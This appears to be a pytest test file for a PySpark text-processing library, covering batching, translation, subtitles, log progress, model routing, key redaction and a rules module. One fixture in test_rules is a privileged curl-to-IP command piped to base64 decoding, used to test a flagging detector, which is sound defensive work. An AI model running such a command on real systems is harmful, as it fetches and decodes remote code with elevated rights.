import pytest
from pyspark.sql import functions as F

from quern.functions import scalars as S
from quern.operators import batching, emit, memory, progress, router, rules, translate


def batches(spark, sizes, budget):
    df = spark.createDataFrame([("k", i, "x" * n) for i, n in enumerate(sizes)], "k string, i int, t string")
    return [r.batch_id for r in batching.greedy_batches(df, "k", ["i"], F.length("t"), budget).orderBy("i").collect()]


def test_greedy_batches(spark):
    assert batches(spark, [5, 5, 5, 8, 1], 10) == [0, 0, 1, 2, 2]
    assert batches(spark, [25, 3], 10) == [0, 1]
    assert batches(spark, [1, 1], 0) == [0, 1]
    assert batches(spark, [0, 0, 1], 0) == [0, 0, 0]


def test_batches_hold_all_rows_within_budget(spark):
    import random

    r = random.Random(1)
    rows = [(k, i, r.randint(0, 40)) for k in range(20) for i in range(r.randint(1, 60))] + [(None, 0, 5)]
    got = batching.greedy_batches(spark.createDataFrame(rows, "k int, i int, n int"), "k", ["i"], F.col("n"), 100).collect()
    assert sorted(map(str, ((x.k, x.i, x.n) for x in got))) == sorted(map(str, rows))
    by = {}
    for x in sorted(got, key=lambda x: x.i):
        by.setdefault((x.k, x.batch_id), []).append(x.n)
    assert all(sum(v) <= 100 or len(v) == 1 for v in by.values())
    for (k, b), v in by.items():
        assert (k, b + 1) not in by or sum(v) + by[k, b + 1][0] > 100


@pytest.mark.parametrize(
    ("src", "tgt", "want"),
    [("abc", "c" * 7, True), ("", "hello", False), ("".join(map(chr, range(97, 122))) * 2, "abcdefghij klmno" * 14, True), ("a!!!", "", True), ("", "", False), ("abcabc", "xyz", False), (None, None, False), ("a" * 7, "b", False)],
)
def test_noisy(one, src, tgt, want):
    import pandas as pd

    assert one(translate.noisy, src, tgt) is want
    assert translate._noisy_rows(pd.DataFrame({"text": [src], "translation": [tgt]})) == [want]


def test_longest_run(one):
    assert [one(translate.longest_run, t) for t in ("", "a", "aabbb", "🖤🖤🖤a", "\n\n\n\n")] == [0, 1, 3, 3, 4]


def test_marked_parts(one):
    answer = "```\nREFINE::1::a\n b\nREFINE:: 2::c\nREFINE::3::  \nREFINE::1::z\n```"
    assert one(lambda c: translate.marked_parts(translate.without_fence(c)), answer) == {"1": "z", "2": "c"}
    assert translate._parse(answer) == {"1": "z", "2": "c"}
    assert one(translate.marked_parts, "REFINE::1::a\nb\nREFINE:: 2::c") == {"1": "a b", "2": "c"}


def segs(spark, rows):
    return spark.createDataFrame(rows, "doc string, id long, text string")


def test_translation_checkpoint_and_refinement(spark):
    rows = [("a", 1, " one "), ("a", 2, "two\nlines"), ("b", 5, "x"), ("b", 4, ""), ("c", 1, None)]
    done = spark.createDataFrame([("a", 2, "known"), ("b", 5, "")], "doc string, id long, translation string")
    out = {(r.doc, r.id): r for r in translate.translate_documents(segs(spark, rows), "doc", checkpoint=done, refiner=translate.offline_refiner).collect()}
    assert out["a", 1].translation == "[zh] one" and out["a", 2].translation == "known" and out["b", 5].translation == "[zh] x"
    assert {r.refine_status for r in out.values() if r.doc != "c"} == {"no_change"}
    hit, miss = translate.with_checkpoint(segs(spark, rows), done, "doc")
    assert [(r.doc, r.id) for r in hit.collect()] == [("a", 2)] and miss.count() == 4


def test_refinement_degrades_and_translation_fails_fast(spark):
    rows = [("a", 1, "one"), ("a", 2, "two")]

    def late(batch):
        raise TimeoutError("timed out")

    out = translate.translate_documents(segs(spark, rows), "doc", refiner=late).collect()
    assert {(r.translation, r.refine_status) for r in out} == {("[zh] one", "timeout"), ("[zh] two", "timeout")}
    partial = translate.translate_documents(segs(spark, rows), "doc", refiner=lambda b: "REFINE::1::better").collect()
    assert [(r.id, r.translation, r.refine_status, r.refine_partial_missing) for r in partial] == [(1, "better", "applied", 1), (2, "[zh] two", "applied", 1)]
    with pytest.raises(Exception, match="number of translated segments"):
        translate.translate_documents(segs(spark, rows), "doc", translator=lambda t, a, b: "just one").collect()


def test_translated_records(spark):
    rows = translate.translate_documents(segs(spark, [("a", 2, "two"), ("a", 1, "one"), ("b", 1, "x")]), "doc", refiner=translate.offline_refiner)
    out = {r.doc: r for r in emit.translated_records(rows, "doc", "text").collect()}
    assert [(s.id, s.translation) for s in out["a"].segments] == [(1, "[zh] one"), (2, "[zh] two")]
    assert (out["a"].refine_requested, out["a"].refine_applied, out["a"].refine_status, out["a"].has_timestamps, out["a"].plan) == (True, False, "no_change", False, "main")


def test_retries():
    calls, pauses = [], []

    def fails():
        calls.append(1)
        raise ValueError("no")

    with pytest.raises(ValueError, match="no"):
        translate.retried(fails, 5, sleep=pauses.append)
    assert len(calls) == 5 and pauses == [1, 2, 4, 4]


@pytest.mark.parametrize(("x", "want"), [(3661.5, "01:01:01,500"), (0.0005, "00:00:00,000"), (359999.9996, "100:00:00,000"), (None, None)])
def test_srt_timestamp(one, x, want):
    assert one(S.srt_timestamp, x, kind="double") == want


@pytest.mark.parametrize(("x", "want"), [(3725.0, "1h02m"), (125.0, "2m05s"), (59.5, "1m00s"), (0.5, "0s"), (-3.0, "0s"), (None, None)])
def test_eta(one, x, want):
    assert one(S.eta, x, kind="double") == want


@pytest.mark.parametrize(
    ("shared", "free", "ratio", "want"),
    [(600, 400, 1.4, ("high", "shared 600MB, free 400MB")), (300, None, None, ("normal", "shared 300MB")), (None, None, None, ("normal", "within expected range")), (None, None, 1.6, ("high", "speed x1.60")), (None, 900, 1.4, ("warn", "free 900MB, speed x1.40")), (2000, 900, None, ("high", "shared 2000MB"))],
)
def test_risk(one, shared, free, ratio, want):
    assert tuple(one(lambda a, b, c: F.struct(*S.risk(a, b, c)), shared, free, ratio, kind=["long", "long", "double"])) == want


def test_encoders_and_paths(one):
    from urllib.parse import quote, quote_plus

    for t in ("a b", "c++ & 50%", "é漢~*", "!'()", "a/b?c=d#e"):
        assert one(S.form_encoded, t) == quote_plus(t)
        assert one(S.component_encoded, t) == quote(t, safe="!'()*~")
    assert one(S.wsl_path, ' "D:\\a\\b.toml" ') == "/mnt/d/a/b.toml" and one(S.wsl_path, "/x/y") == "/x/y"
    assert one(S.subtitles_filter, "C:\\a,b[1]'.srt") == "subtitles='C\\:/a\\,b\\[1\\]\\'.srt'"
    assert [one(S.platform, u) for u in ("https://m.YouTube.com/x", "https://b23.tv/1", "http://x.org/youtube.com", None)] == ["youtube", "bilibili", "unknown", "unknown"]
    assert [one(S.suffix_type, u) for u in ("https://x/a.pdf", "a.PDF", "b.docx", "c.htm", "d.json", "e.md", "f")] == ["web", "pdf", "docx", "web", "json", "text", "text"]
    assert one(lambda a, b: S.first_truthy(a, b), "", "c") == "c"


def test_subtitle_text(one):
    vtt = "WEBVTT\n\n1\n00:00:01.000 --> 00:00:02.000\nfoo\n<c>foo</c>\nfoo\nNOTEBOOK\n"
    assert one(lambda c: emit.subtitle_text(c, True), vtt) == "foo\nfoo"
    assert one(lambda c: emit.subtitle_text(c, False), "1\n00:00:01,000 --> 00:00:02,000\nhi\nhi") == "hi"
    assert one(lambda c: emit.subtitle_text(c, True), "") == ""


def test_emission(spark):
    rows = [("d", 0, 1, 0.0, 1.0, "a", "A"), ("d", 1, 2, None, 1.0, "b", "B"), ("d", 2, 3, 2.0, 3.0, "c", " "), ("d", 3, 4, 3.0, 4.0, " ", None), ("e", 0, 1, None, None, "x", "")]
    df = spark.createDataFrame(rows, "doc string, pos int, id int, start double, end double, text string, translation string")
    assert {r.doc: r.srt for r in emit.srt(df, "doc").collect()} == {"d": "1\n00:00:00,000 --> 00:00:01,000\nA\n\n2\n00:00:02,000 --> 00:00:03,000\nc\n"}
    assert {r.doc: r.translated for r in emit.translated_text(df, "doc").collect()} == {"d": "A\nB", "e": ""}
    assert {r.doc: r.bilingual for r in emit.bilingual_text(df, "doc").collect()} == {"d": "[1]\na\nA\n\n[2]\nb\nB\n\n[3]\nc", "e": "[1]\nx"}


def test_log_matches_and_progress(spark):
    line = lambda step, loss, extra="": f"steps: 10%|x| {step}/100 [00:10, {extra}, avr_loss={loss}]\n".encode()
    pad = b"." * 600
    files = [("b.wandb", line(10, 0.5, "2.0s/it") + pad + line(20, 0.4, "4.0s/it")), ("a.wandb", line(20, 0.3) + b"_runtime\x08" + pad), ("c.wandb", b"nothing"), ("d.wandb", line(30, 0.2) + b"_runtime........60 _timestamp........7")]
    m = progress.log_matches(spark.createDataFrame([(p, bytearray(c)) for p, c in files], "path string, content binary")).cache()
    assert sorted((r.path, r.step, r.sec_per_step, r.runtime) for r in m.collect() if r.path != "a.wandb") == [("b.wandb", 10, 2.0, None), ("b.wandb", 20, 4.0, None), ("d.wandb", 30, None, 60.0)]
    best = progress.progress(progress.latest_record(m)).first()
    assert (best.path, best.step, best.seconds_per_step, best.eta_seconds, best.status) == ("d.wandb", 30, 2.0, 140.0, "running")
    assert progress.median_baseline(m).first().baseline == 2.0


def test_latest_record_ties(spark):
    rows = [("a", 0, 1, None, 1.0), ("b", 0, 2, None, 0.5), ("c", 0, 2, 3.0, None), ("d", 0, 2, 3.0, 0.0)]
    df = spark.createDataFrame([(p, n, s, 9, 0.0, None, rt, ts) for p, n, s, ts, rt in rows], progress.MATCHES)
    assert progress.latest_record(df).first().path == "c"


def test_counters_and_devices(spark, one):
    c = spark.createDataFrame([("\\x(4096)\\Shared Usage", 2097152.0), ("\\x\\Non Local Usage", 1048576.0), ("\\x(1)\\Local Usage", 9e9)], "path string, value double")
    assert tuple(progress.adapter_memory(c).first()) == (2, 4096)
    p = spark.createDataFrame([("\\p(pid_7_x)\\Non Local Usage", 5e9), ("\\p(pid_7_x)\\Shared Usage", 1.5e8), ("\\p(pid_77_x)\\Shared Usage", 9e9)], "path string, value double")
    assert tuple(progress.process_memory(p, 7).first()) == (4768, 143)
    assert one(progress.device_line, "GPU X, 100, 60, 40, 5, 70").dedicated_free_mb == 40
    assert one(progress.device_line, "GPU X, 100") is None


MODELS = [(0, "A", "p", 0.0, 35.0, ["chat"]), (1, "B", "q", 3.0, 85.0, ["chat", "code"])]


def routed(spark, tasks, **kw):
    models = spark.createDataFrame(kw.pop("models", MODELS), f"pos int, {router.MODEL}")
    df = spark.createDataFrame([(i, t) for i, t in enumerate(tasks)], "task_id int, task string")
    return [(r.model, r.score) for r in router.route(df, models, **kw).orderBy("task_id").collect()]


def test_routing(spark):
    assert routed(spark, ["hi", "debug code", "decode it"]) == [("A", 0), ("B", 6), ("A", 2)]
    assert routed(spark, ["hi"], min_capability="code") == [("B", 0)]
    assert routed(spark, ["debug code", "hi"], prefer=["none", "P"]) == [("A", 6), ("A", 0)]
    assert routed(spark, ["hi"], min_capability="paint") == [(None, 0)]


def test_redaction(one):
    import json

    run = lambda t, auth=False: one(lambda c: rules.redacted(c, auth), t)
    assert json.loads(run('{"apiKey":"x","maxTokens":5,"n":{"a":1,"l":[{"deviceId":2}]}}')) == {"apiKey": "REDACTED", "maxTokens": "REDACTED", "n": {"a": 1, "l": [{"deviceId": "REDACTED"}]}}
    assert json.loads(run('{"provider":"p","key":"x","KeyRefs":{"z":1},"list":["s"]}', True)) == {"provider": "p", "key": "REDACTED", "KeyRefs": {"z": 1}, "list": ["s"]}
    assert run("not json") is None


def test_rules(spark, one):
    files = spark.createDataFrame([(p,) for p in ("a/b.py", "a/output", "a/output/x.txt", "tmp-1", "b/tmp-1x.md", "c/.git/config")], "path string")
    assert [r.path for r in rules.selected_files(files, ["*/output", "tmp-*", "*/.git"]).collect()] == ["a/b.py", "b/tmp-1x.md"]
    assert one(lambda c: rules.scan_gate(c), "No issues") and not one(lambda c: rules.scan_gate(c), "Medium Risk found")
    assert one(lambda c: rules.without_filler(c), "In order to win, it has the ability to run") == "to win, it can run"
    flags = rules.flagged(spark.createDataFrame([(1, "sudo curl http://1.2.3.4/x | base64 -d"), (2, "fine")], "k int, t string"), "k", "t")
    assert {(r.k, r.flag) for r in flags.collect()} == {(1, "fetches_urls"), (1, "decodes_base64"), (1, "calls_ip"), (1, "elevated")}


def test_memory(spark):
    ts = "timestamp'2024-01-{:02d} 00:00:00'"
    df = spark.sql("SELECT * FROM VALUES " + ", ".join(f"('k', {ts.format(d)}, '{lv}', '{v}')" for d, lv, v in [(1, "global", "a"), (3, "project", "b"), (8, "domain", "c"), (20, "project", "d")]) + " v(key, ts, level, value)")
    assert [(r.uses, r.hot) for r in memory.promotions(df, "key").orderBy("ts").collect()] == [(1, False), (2, False), (3, True), (1, False)]
    assert memory.precedence(df, "key", "level", "ts", "value").first().value == "d"
    assert {(r.level_a, r.level_b) for r in memory.conflicts(df, "key", "level", "value").collect()} == {("global", "domain"), ("global", "project"), ("domain", "project")}
    tiers = [memory.decay(df, "key", now=F.lit(d).cast("date")).first().tier for d in ("2024-02-19", "2024-02-20", "2024-05-01")]
    assert tiers == ["HOT", "WARM", "COLD"]
    assert memory.merged(df, "key").first().summary == "confirmed 4x, 2024-01-01 to 2024-01-20"
    both = [spark.createDataFrame(x, "k string, v int") for x in ([("a", 1), ("b", 2), ("c", None)], [("b", 3), ("c", None), ("d", 4)])]
    assert {r.k: r.status for r in memory.compared(*both, "k", "v").collect()} == {"a": "removed", "b": "changed", "c": "same", "d": "added"}


def test_longest_runs_have_no_limit(spark, tmp_path):
    from quern.plans import catalogue

    spark.createDataFrame([(1, "a" + "-" * 80), (2, "aab"), (3, "")], "doc_id long, text string").write.parquet(f"{tmp_path}/documents.parquet")
    assert {r.doc_id: r.run for r in catalogue.longest_runs(spark, str(tmp_path)).collect()} == {1: 80, 2: 2, 3: 0}


def test_search_operators(spark):
    from quern.operators import rules

    rows = [(1, "https://a.example.com/x.pdf?y", "Machine Learning", "costs $700 now"), (2, "http://b.org/login", "apple phones", "old machine for algorithms"), (3, "http://example.com/", "Python", "a snake, the machine learning snake")]
    pages = spark.createDataFrame(rows, "id int, url string, title string, text string")
    found = lambda query: [r.id for r in pages.where(rules.search_filter(query, F.col("url"), F.col("title"), F.col("text"))).orderBy("id").collect()]
    want = {
        "": [1, 2, 3], '"machine learning"': [1, 3], "machine learning -snake": [1], "apple OR python": [2, 3], '"machine * algorithms"': [2], "(apple OR snake) machine": [2, 3], "$500..$1000": [1], "site:example.com": [1, 3],
        "filetype:pdf": [1], "inurl:login": [2], "intitle:machine": [1], "intext:machine": [2, 3], "-site:example.com": [2], "(python": [3], "python)": [3], "machine.*": [],
        "OR snake": [3], "snake OR": [3], "OR": [1, 2, 3], "()": [1, 2, 3], "() apple": [2], "-(apple OR snake)": [1], "-()": [1, 2, 3], "-(machine -snake)": [3], "appl": [], "700": [1], "-": [1, 2, 3], '""': [1, 2, 3], "- apple": [2],
        "intext:mach*": [2, 3], '"snake, the"': [3], "inurl:log": [],
    }
    assert {k: found(k) for k in want} == want


def test_fields_and_variants(spark):
    from quern.operators import rules

    html = '<div class="products"><p class="name">no</p></div><div class="product"><p class="name">A &amp; B</p></div><div class=\'x product y\'><p class="price">3</p></div>'
    (row,) = spark.createDataFrame([(html,)], "h string").select(rules.extracted_fields(F.col("h"), "product", ["name", "price"]).alias("x")).collect()
    assert [tuple(r) for r in row.x] == [("A & B", None), (None, "3")]  # the text, with its entities decoded
    urls = spark.createDataFrame([("a", "z/web-operation.webp"), ("a", "z/image_dld_watermark_1"), ("b", "z/other2"), ("b", "z/other1")], "k string, url string")
    assert sorted(map(tuple, rules.preferred_variant(urls, "k", "url").collect())) == [("a", "z/image_dld_watermark_1"), ("b", "z/other1")]


def test_redaction_gives_json(spark, one):
    import json

    from quern.operators import rules

    said = one(lambda c: rules.redacted(c), '{"d": 1e400, "n": NaN, "i": -Infinity, "x": 1.5, "big": 123456789012345678901234567890, "token": "t"}')
    assert json.loads(said, parse_constant=lambda c: pytest.fail(c)) == {"d": None, "n": None, "i": None, "x": 1.5, "big": 123456789012345678901234567890, "token": "REDACTED"}


def test_conflicts_need_known_levels(spark):
    rows = spark.createDataFrame([("k", "global", "a"), ("k", "odd", "b"), ("k", None, "c"), ("k", "project", None), ("k", "domain", "d")], "key string, level string, value string")
    assert [(r.level_a, r.level_b) for r in memory.conflicts(rows, "key", "level", "value").collect()] == [("global", "domain")]


def test_catalogue_texts(spark):
    rows = spark.createDataFrame([("a", '{"providers": {"p": {"api": "x", "models": [{"id": "m", "cost": {"input": 2}}, {"id": "n"}]}, "q": {"models": []}}}'), ("b", "not json"), ("c", None)], "k string, j string")
    assert [(r.k, r.provider, r.id, r.cost_input) for r in router.catalogue_texts(rows, "j", "k").orderBy("id").collect()] == [("a", "p", "m", 2.0), ("a", "p", "n", None)]


def test_watch_words(spark):
    from quern.operators import watch

    assert len(watch.NAMES) == 24 and watch.spelt("a/b c, d") == ["a c", "b c", "d"]
    assert [len(watch.spelt(said)) for _, said in watch.PHRASES] == [33, 6, 11, 16, 6, 4, 22, 7, 3, 4, 7, 5, 3, 6, 2, 3]
    rows = [
        ("A Pivotal moment: marks a shift, keys and a key role; a vital role.", {"significance": 4, "vocabulary": 2, "copula": 1, "threes": 1}), ("key-key_key keykey KEY.", {"vocabulary": 4}), ("# Title Case Here\nfrom a to b", {"title_case": 1, "ranges": 1}),
        ("red, green and blue — **bold** “q” 🎉☀", {"threes": 1, "em_dash": 1, "bold": 1, "curly_quotes": 2, "emojis": 2}), ("- **Speed:** fast", {"list_headers": 1, "bold": 1}), ("", {}), ("Certainly! you're absolutely right! must-visit", {"artifacts": 2, "servile": 1, "promotion": 1}),
        ("enhance enhanced highlighting highlight", {"vocabulary": 2, "ing_endings": 1}), ("in order to in order to", {"filler": 2}), ("while specific details are scarce", {"disclaimers": 1}),
    ]
    got = watch.watch_counts(spark.createDataFrame([(i, x) for i, (x, _) in enumerate(rows)] + [(99, None)], "id int, text string"), "id", "text").orderBy("id").collect()
    assert [{n: r[n] for n in watch.NAMES if r[n]} for r in got] == [w for _, w in rows] + [{}] and got[-1].filler is None



def test_transcript_files(spark, tmp_path):
    from quern.sources import readers

    rows = spark.createDataFrame([("a", 1, 0.0, 1.0, " x "), ("a", 2, 1.0, 2.0, ""), ("a", 3, 2.0, 3.0, "y"), ("b", 1, 0.0, 1.0, None)], "doc string, n int, start double, end double, text string")
    out = readers.transcript_records(rows, "doc", "n", model="m")
    assert {r.doc: (r.model, r.text, len(r.segments)) for r in out.collect()} == {"a": ("m", "x\ny", 3), "b": ("m", "", 1)}
    readers.write_transcripts(out, str(tmp_path / "t"), "doc", debug=True)
    assert spark.read.json(str(tmp_path / "t/meta")).columns == ["doc", "model"] and spark.read.json(str(tmp_path / "t/json")).count() == 2
